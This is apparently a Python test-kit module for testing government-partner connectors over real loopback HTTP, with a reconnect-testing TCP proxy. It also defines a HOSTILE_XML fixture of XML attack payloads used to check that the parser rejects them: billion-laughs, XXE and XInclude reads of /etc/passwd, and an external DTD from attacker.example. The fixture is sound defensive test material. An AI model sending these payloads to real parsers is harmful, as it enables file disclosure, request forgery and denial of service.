"""Public test kit: what an integrator needs to test a connector without a ministry behind it.

Start a partner simulator (any ASGI app, e.g. a FastAPI app) on a real loopback port and point
the connector at it, so the test exercises real HTTP: sockets, timeouts, status codes::

    from bus.connector import ConnectorConfig
    from bus.testing import serve_app
    from connectors.civil_status import CivilStatusConnector, create_simulator_app

    def test_registers_birth() -> None:
        with serve_app(create_simulator_app()) as base_url:
            config = ConnectorConfig.from_file(
                CivilStatusConnector.default_config, endpoint=base_url
            )
            ...

In an ``async`` test use ``async with aserve_app(app) as base_url:``. The server runs in its own
thread and event loop, so a test's blocking code cannot stall it, and it is stopped on exit even
when a request is still hanging.

``HOSTILE_XML`` holds the classic XML attacks, to check that a simulator (or any code that reads
partner XML) refuses them: every one must be rejected by :func:`bus.xmlsafe.parse_xml`.
"""

from __future__ import annotations

import asyncio
import contextlib
import threading
import time
from collections.abc import AsyncIterator, Iterator
from typing import Any, Final

import uvicorn

__all__ = ["HOSTILE_XML", "ServerStartError", "TcpProxy", "aserve_app", "serve_app"]

HOSTILE_XML: Final[dict[str, bytes]] = {
    # Entity expansion bomb: 10^3 "lol"s here, 10^9 with a few more lines.
    "billion_laughs": b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>""",
    # XXE: reads a local file into the document.
    "external_entity": b"""<?xml version="1.0"?>
<!DOCTYPE hoSoKhaiSinh [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<hoSoKhaiSinh><hoTen>&xxe;</hoTen></hoSoKhaiSinh>""",
    # Fetches a DTD from the network (server-side request forgery, out-of-band exfiltration).
    "external_dtd": b"""<?xml version="1.0"?>
<!DOCTYPE hoSoKhaiSinh SYSTEM "http://attacker.example/evil.dtd">
<hoSoKhaiSinh/>""",
    # External parameter entity, expanded inside the DTD itself.
    "parameter_entity": b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>
<r/>""",
    # XInclude: pulls a file in when the consumer processes includes.
    "xinclude": b"""<r xmlns:xi="http://www.w3.org/2001/XInclude">
<xi:include href="file:///etc/passwd" parse="text"/></r>""",
}
"""Classic hostile XML documents by name, for tests of anything that reads partner XML."""


class ServerStartError(RuntimeError):
    """Raised when the app server did not start listening within the allowed time."""


class _BackgroundServer:
    """A uvicorn server running in a daemon thread with its own event loop."""

    def __init__(
        self, app: Any, *, host: str, port: int, log_level: str, lifespan: str = "off"
    ) -> None:
        config = uvicorn.Config(
            app,
            host=host,
            port=port,
            lifespan=lifespan,  # type: ignore[arg-type]
            log_level=log_level,
            access_log=False,
            loop="asyncio",
            # Requests still running at shutdown (a simulated hang) are cancelled after this.
            timeout_graceful_shutdown=1,
        )
        self.server = uvicorn.Server(config)
        self.error: BaseException | None = None
        self.thread = threading.Thread(target=self._run, name=f"serve_app:{host}", daemon=True)
        self.host = host

    def _run(self) -> None:
        # uvicorn installs signal handlers only in the main thread, so none are taken here.
        try:
            self.server.run()
        except BaseException as exc:
            # Including SystemExit on a bind failure: reported by start(), not lost in a thread.
            self.error = exc

    def start(self, timeout: float) -> str:
        self.thread.start()
        deadline = time.monotonic() + timeout
        while not self.server.started:
            if not self.thread.is_alive() or time.monotonic() > deadline:
                self.stop(timeout=1.0)
                reason = f": {self.error!r}" if self.error is not None else ""
                raise ServerStartError(f"test server did not start{reason}")
            time.sleep(0.005)
        sockname = self.server.servers[0].sockets[0].getsockname()
        host = f"[{self.host}]" if ":" in self.host else self.host
        return f"http://{host}:{sockname[1]}"

    def stop(self, timeout: float) -> None:
        self.server.should_exit = True
        self.thread.join(timeout)
        if self.thread.is_alive():
            # Still waiting on connections: stop waiting and let asyncio.run cancel the rest.
            self.server.force_exit = True
            self.thread.join(timeout)


@contextlib.contextmanager
def serve_app(
    app: Any,
    *,
    host: str = "127.0.0.1",
    port: int = 0,
    startup_timeout: float = 10.0,
    log_level: str = "warning",
    lifespan: str = "off",
) -> Iterator[str]:
    """Serve an ASGI ``app`` over HTTP in a background thread; yield its base URL.

    ``port=0`` picks a free port. The server is listening when the block starts and is shut
    down when it ends. Lifespan events are sent only with ``lifespan="on"`` (for an app, such
    as the bus API, whose start-up opens resources). Raises :class:`ServerStartError` when it
    cannot start within ``startup_timeout`` seconds.
    """
    background = _BackgroundServer(
        app, host=host, port=port, log_level=log_level, lifespan=lifespan
    )
    base_url = background.start(startup_timeout)
    try:
        yield base_url
    finally:
        background.stop(timeout=5.0)


@contextlib.asynccontextmanager
async def aserve_app(
    app: Any,
    *,
    host: str = "127.0.0.1",
    port: int = 0,
    startup_timeout: float = 10.0,
    log_level: str = "warning",
) -> AsyncIterator[str]:
    """Async form of :func:`serve_app`: starting and stopping never block the caller's loop."""
    background = _BackgroundServer(app, host=host, port=port, log_level=log_level)
    base_url = await asyncio.to_thread(background.start, startup_timeout)
    try:
        yield base_url
    finally:
        await asyncio.to_thread(background.stop, 5.0)


class TcpProxy:
    """A loopback TCP proxy whose link can be cut, to test reconnection for real.

    Point a client at ``proxy.port`` instead of the server's port; :meth:`cut` drops every open
    connection and refuses new ones until :meth:`restore`. Nothing in the client or the server
    is patched: the client sees exactly what a network failure or a restarted peer looks like.
    Runs in its own thread, so it keeps serving while the test blocks. A hand-written proxy
    because the usual tool for this (toxiproxy) is a separate server binary.

        with TcpProxy("127.0.0.1", 5672) as proxy:
            url = f"amqp://guest:guest@127.0.0.1:{proxy.port}/"
            ...
            proxy.cut()
            proxy.restore()
    """

    def __init__(
        self, target_host: str, target_port: int, *, listen_host: str = "127.0.0.1"
    ) -> None:
        self._target = (target_host, target_port)
        self._listen_host = listen_host
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(
            target=self._loop.run_forever, name="tcp-proxy", daemon=True
        )
        self._server: asyncio.Server | None = None
        self._writers: set[asyncio.StreamWriter] = set()
        self._cut = False
        self.port = 0
        self.connections = 0

    def __enter__(self) -> TcpProxy:
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._start(), self._loop).result(10)
        return self

    def __exit__(self, *_exc: object) -> None:
        asyncio.run_coroutine_threadsafe(self._stop(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(5)
        self._loop.close()

    def cut(self) -> None:
        """Drop every proxied connection now and refuse new ones."""
        asyncio.run_coroutine_threadsafe(self._drop_all(refuse=True), self._loop).result(10)

    def restore(self) -> None:
        """Accept and forward connections again."""
        self._cut = False

    async def _start(self) -> None:
        self._server = await asyncio.start_server(self._accept, self._listen_host, 0)
        self.port = self._server.sockets[0].getsockname()[1]

    async def _stop(self) -> None:
        await self._drop_all(refuse=True)
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()

    async def _drop_all(self, *, refuse: bool) -> None:
        self._cut = refuse
        for writer in list(self._writers):
            writer.transport.abort()  # a reset, not a polite close: as when a link dies
        self._writers.clear()

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if self._cut:
            writer.transport.abort()
            return
        try:
            upstream_reader, upstream_writer = await asyncio.open_connection(*self._target)
        except OSError:
            writer.transport.abort()
            return
        self.connections += 1
        self._writers.update({writer, upstream_writer})
        await asyncio.gather(
            self._pipe(reader, upstream_writer),
            self._pipe(upstream_reader, writer),
            return_exceptions=True,
        )

    async def _pipe(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while data := await reader.read(65536):
                writer.write(data)
                await writer.drain()
        finally:
            self._writers.discard(writer)
            writer.transport.abort()
